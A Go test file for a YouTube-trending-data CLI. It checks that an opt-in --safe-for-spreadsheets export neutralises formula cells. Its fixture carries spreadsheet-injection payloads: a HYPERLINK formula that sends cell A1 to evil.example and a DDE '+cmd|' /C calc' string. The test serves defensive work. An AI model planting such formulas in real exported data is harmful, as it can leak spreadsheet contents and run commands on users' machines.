package main

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/ytrend/ytrend/ingest/sim"
)

// Formulas in titles, channel titles, tags and descriptions reach a
// spreadsheet verbatim by default (an export is data, and imported back
// byte for byte); --safe-for-spreadsheets makes every such cell text.
func TestExportSafeForSpreadsheets(t *testing.T) {
	t.Parallel()
	w := newWorld(t, sim.Config{})
	const header = "video_id,title,publishedAt,channelId,channelTitle,categoryId,trending_date,tags,view_count,likes,dislikes,comment_count,thumbnail_link,comments_disabled,ratings_disabled,description\n"
	w.write("US_youtube_trending_data.csv", header+
		`formula0001,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",2020-08-11T19:20:14Z,UC1,+cmd|' /C calc'!A0,22,2020-08-12T00:00:00Z,-2+3|ok,10,1,0,1,https://i.ytimg.com/vi/formula0001/default.jpg,False,False,@SUM(1+1)`+"\n"+
		`plain000001,A plain title,2020-08-11T19:20:14Z,UC2,Channel,22,2020-08-12T00:00:00Z,[None],10,1,0,1,https://i.ytimg.com/vi/plain000001/default.jpg,False,False,text`+"\n")
	w.mustRun("import", "US_youtube_trending_data.csv")

	plain := w.mustRun("export").stdout
	rows := csvRows(t, plain)
	if got := rows[1][1]; got != `=HYPERLINK("http://evil.example/?"&A1,"click")` {
		t.Errorf("default export changed the title: %q", got)
	}
	safe := csvRows(t, w.mustRun("export", "--safe-for-spreadsheets").stdout)
	want := map[int]string{1: `'=HYPERLINK("http://evil.example/?"&A1,"click")`, 4: `'+cmd|' /C calc'!A0`, 7: `'-2+3|ok`, 15: `'@SUM(1+1)`}
	for col, v := range want {
		if got := safe[1][col]; got != v {
			t.Errorf("column %s: %q, want %q", rows[0][col], got, v)
		}
	}
	if strings.Join(safe[2], ",") != strings.Join(rows[2], ",") || strings.Join(safe[0], ",") != strings.Join(rows[0], ",") {
		t.Errorf("rows without formulas changed:\n%q\n%q", safe[2], rows[2])
	}
	// The default is byte for byte what comes back.
	w.write("export.csv", plain)
	w.env["YTREND_DB"] = filepath.Join(w.dir, "fresh.db")
	w.mustRun("import", "export.csv")
	if again := w.mustRun("export").stdout; again != plain {
		t.Errorf("export -> import -> export differs:\n%s\n---\n%s", plain, again)
	}
	if r := w.run("export", "--format", "jsonl", "--safe-for-spreadsheets"); r.code != 2 {
		t.Errorf("--safe-for-spreadsheets with JSON lines: exit %d", r.code)
	}
}
